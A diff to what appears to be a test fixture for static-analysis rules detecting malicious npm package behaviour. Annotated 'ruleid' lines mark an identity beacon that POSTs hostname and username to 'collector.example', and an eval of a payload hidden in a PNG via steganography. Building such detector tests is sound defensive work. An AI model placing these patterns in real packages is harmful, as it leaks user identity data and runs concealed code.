@@ -43,3 +43,23 @@ function preload() {
   cp.exec('ls -la');
 }
 module.exports = { hidden, background, steal, preload };
+
+function beacon() {
+  const https = require('https');
+  const td = JSON.stringify({ hn: os.hostname(), un: os.userInfo().username });
+  // ruleid: package.js.identity-beacon
+  const req = https.request({ hostname: 'collector.example', method: 'POST' });
+  // ok: package.js.identity-beacon
+  const summary = describeRequest(td);
+  req.end(summary);
+}
+
+function stego() {
+  // ruleid: package.js.steganography
+  const steggy = require('steggy');
+  // ok: package.js.steganography
+  const sharp = require('sharp');
+  // ruleid: package.js.steganography
+  eval(steggy.reveal()(fs.readFileSync('./x.png')));
+  return sharp;
+}
